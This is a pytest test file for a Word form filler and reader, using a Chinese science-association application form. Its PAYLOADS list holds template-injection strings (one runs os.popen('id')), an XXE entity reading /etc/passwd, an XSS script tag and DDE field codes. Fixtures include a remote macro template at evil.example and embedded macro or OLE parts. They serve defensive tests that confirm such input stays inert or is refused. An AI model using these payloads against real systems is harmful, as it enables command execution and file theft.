"""An office's own Word form: its blanks are recognised, filled as text, and read back."""

import os
from pathlib import Path

import docx
import pytest

from keqiao.core.forms.paper.single import Answered
from keqiao.core.forms.specification import Specification
from keqiao.core.programme.forms import Form, OfficePaper
from keqiao.readers.forms.filled import read_filled
from keqiao.readers.forms.office import recognise, recognise_upload
from keqiao.readers.forms.office_expected import expected_of_office
from keqiao.readers.forms.taking import take
from keqiao.readers.unreadable import Unreadable
from keqiao.writers.forms.office import fill_office_form
from tests.readers.word_files import docx as raw_docx
from tests.readers.word_files import p, parts, write

SEED = Path(os.environ.get("KEQIAO_SEEDS", "")) / "jining-2023.docx"
ROWS = [
    ["项目名称", "", "项目类别", "A类（） B类（）"],
    ["单位负责人", "姓名", "手机", "邮箱"],
    ["", "", "", ""],
    ["实施方案", "（要求：条目式陈述，500字以内）", "", ""],
    ["序号", "成员", "单位", "分工"],
    ["1", "", "", ""],
    ["2", "", "", ""],
    ["单位意见", "单位公章 年 月 日", "", ""],
]
ANSWERS = {
    "field-1": "科普进社区",
    "field-2": ["B类"],
    "field-3": {"name": "赵知行", "phone": "13800000009"},
    "field-4": "一、准备\n二、实施",
    "field-5": [{"c1": "甲", "c2": "学会", "c3": "讲"}, {"c1": "乙"}, {"c1": "丙", "c3": "写"}],
}
PAYLOADS = [
    *(
        "{{ 7*7 }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "{# c #}",
        "{%p if 1 %}",
    ),
    *(
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{%tr for r in range(10**9) %}",
        "${7*7}",
        "#{7*7}",
    ),
    *(
        "<w:p/>",
        "]]>",
        "&amp;",
        "&#0;",
        '"><script>alert(1)</script>',
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    ),
    *(
        "=HYPERLINK(1)",
        "DDEAUTO c:\\\\x",
        "{ INCLUDETEXT file }",
        "%(x)s",
        "{0.__class__}",
        "{{a.__class__}}",
    ),
    *(
        "\\input{/etc/passwd}",
        "#sys.inputs",
        "*[b]*",
        "$x^2$",
        "@import",
        "<%= 1 %>",
        "[[x]]",
        "{{{x}}}",
        "{{",
        "%}",
    ),
]


def template(tmp_path, rows=ROWS):
    document = docx.Document()
    document.add_paragraph("某市科协项目申报表")
    table = document.add_table(rows=len(rows), cols=4)
    for row, cells in enumerate(rows):
        for column, words in enumerate(cells):
            table.cell(row, column).text = words
        if rows is ROWS and row in (3, 7):
            table.cell(row, 1).merge(table.cell(row, 3)).text = cells[1]
    path = tmp_path / "own.docx"
    document.save(str(path))
    return path


def specification_of(path):
    found = recognise(take(path))
    paper = OfficePaper(file="0" * 64, blanks=tuple(found.blanks))
    form = Form(
        id="own", title=found.title, fields=tuple(found.fields), opinions=tuple(found.opinions), paper=paper
    )
    return Specification(form=form, fields=form.fields)


def read_again(template, path, specification):
    expected = expected_of_office(take(template), specification)
    return read_filled(take(path), specification, expected)


def test_labels_blanks_and_kinds_are_recognised(tmp_path):
    found = recognise(take(template(tmp_path)))

    assert found.title == "某市科协项目申报表"
    assert [(field.kind, field.label) for field in found.fields] == [
        ("text", "项目名称"),
        ("choice", "项目类别"),
        ("person", "单位负责人"),
        ("long_text", "实施方案"),
        ("table", "成员、单位、分工"),
    ]
    assert found.fields[1].options == ("A类", "B类")
    assert found.fields[2].parts == ("name", "phone", "email")
    assert found.fields[3].max_chars == 500
    assert [box.who for box in found.opinions] == ["单位"]
    assert found.unclear == []


def test_the_office_form_is_filled_and_read_back(tmp_path):
    own = template(tmp_path)
    specification = specification_of(own)
    fill_office_form(own, tmp_path / "filled.docx", Answered(specification, ANSWERS, to_fill=True))

    found = read_again(own, tmp_path / "filled.docx", specification)

    assert found.answers == ANSWERS
    assert found.doubts == ()
    assert found.left_over == ()


NUMBERED = [
    ["序号", "成员", "单位", "分工"],
    ["（1）", "", "", ""],
    ["（2）", "", "", ""],
    ["（3）", "", "", ""],
]
MEMBERS = [{"c1": name, "c3": "讲"} for name in ("甲", "乙", "丙", "丁", "戊")]


def test_rows_beyond_those_of_the_office_are_numbered_in_its_manner(tmp_path):
    own = template(tmp_path, NUMBERED)
    specification = specification_of(own)
    fill_office_form(
        own, tmp_path / "filled.docx", Answered(specification, {"field-1": MEMBERS}, to_fill=True)
    )

    pieces = take(tmp_path / "filled.docx").pieces
    found = read_again(own, tmp_path / "filled.docx", specification)

    numbers = [each.text for each in pieces if (each.table, each.column) == (0, 0)]
    assert numbers == ["序号", "（1）", "（2）", "（3）", "（4）", "（5）"]
    names = [each.text for each in pieces if (each.table, each.column) == (0, 1)]
    assert names == ["成员", "甲", "乙", "丙", "丁", "戊"]
    assert found.answers == {"field-1": MEMBERS}
    assert (found.doubts, found.left_over) == ((), ())


def test_a_fourth_row_added_by_hand_to_the_three_of_the_office_is_read_and_said(tmp_path):
    own = template(tmp_path, NUMBERED)
    specification = specification_of(own)
    three = Answered(specification, {"field-1": MEMBERS[:3]}, to_fill=True)
    fill_office_form(own, tmp_path / "filled.docx", three)
    filled = docx.Document(str(tmp_path / "filled.docx"))
    for cell, words in zip(filled.tables[0].add_row().cells, ("（4）", "丁", "", "讲"), strict=True):
        cell.text = words
    filled.save(str(tmp_path / "sent.docx"))

    found = read_again(own, tmp_path / "sent.docx", specification)

    assert found.answers == {"field-1": MEMBERS[:4]}
    assert [(cell.at, cell.label, cell.text) for cell in found.doubts] == [
        (("field-1", 3, "c1"), "成员、单位、分工（4）·成员", "丁"),
        (("field-1", 3, "c3"), "成员、单位、分工（4）·分工", "讲"),
    ]
    assert found.left_over == ()


def test_the_blank_office_form_looks_as_before_and_says_nothing(tmp_path):
    own = template(tmp_path)
    specification = specification_of(own)
    fill_office_form(own, tmp_path / "blank.docx", Answered(specification, {}, to_fill=True))

    before, after = take(own), take(tmp_path / "blank.docx")

    body = [piece.text for piece in after.pieces if piece.place == "body"]
    assert [text.strip() for text in body] == [piece.text for piece in before.pieces]
    assert read_again(own, tmp_path / "blank.docx", specification).answers == {}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_words_that_look_like_a_template_or_markup_stay_words(payload, tmp_path):
    rows = [[payload[:20], "", "", ""], *ROWS]
    own = template(tmp_path)
    specification = specification_of(own)
    fill_office_form(
        own,
        tmp_path / "filled.docx",
        Answered(specification, {"field-1": payload, "field-4": payload}, to_fill=True),
    )

    found = read_again(own, tmp_path / "filled.docx", specification)

    assert (found.answers["field-1"], found.answers["field-4"]) == (payload, payload)
    assert rows[0][0] in [piece.text for piece in take(template(tmp_path, rows)).pieces]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_office_form_that_holds_such_words_keeps_them_as_they_are(payload, tmp_path):
    rows = [[*row] for row in ROWS]
    rows[7][0] = f"{payload}意见"
    own = template(tmp_path, rows)
    specification = specification_of(own)
    fill_office_form(own, tmp_path / "filled.docx", Answered(specification, ANSWERS, to_fill=True))

    found = read_again(own, tmp_path / "filled.docx", specification)

    assert found.answers == ANSWERS
    assert f"{payload}意见" in [piece.text for piece in take(tmp_path / "filled.docx").pieces]


def test_macros_outside_templates_and_field_codes_that_run_are_refused(tmp_path):
    outside = parts(p("表"))
    outside["word/_rels/document.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    field = "<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:r></w:p>"
    hostile = {
        "unreadable.macro": write(tmp_path / "m.docx", {**parts(p("表")), "word/vbaProject.bin": b"x"}),
        "unreadable.ole_object": write(
            tmp_path / "o.docx", {**parts(p("表")), "word/embeddings/oleObject1.bin": b"x"}
        ),
        "unreadable.remote_template": write(tmp_path / "t.docx", outside),
        "unreadable.dde": raw_docx(tmp_path / "d.docx", field),
    }

    for code, path in hostile.items():
        with pytest.raises(Unreadable) as refused:
            recognise_upload(path)
        assert refused.value.code == code


@pytest.mark.skipif(not SEED.is_file(), reason="the sample documents are not there (KEQIAO_SEEDS)")
def test_the_form_of_jining_is_recognised_whole():
    found = recognise_upload(SEED)

    assert [(field.kind, field.label) for field in found.fields] == [
        ("text", "申报项目"),
        ("choice", "项目类别"),
        ("text", "申报单位"),
        ("text", "通讯地址"),
        ("person", "单位负责人"),
        ("person", "项目联系人"),
        ("long_text", "承办条件说明"),
        ("long_text", "实施方案"),
        ("long_text", "预期成效"),
    ]
    assert [box.who for box in found.opinions] == ["申报单位", "市科协"]
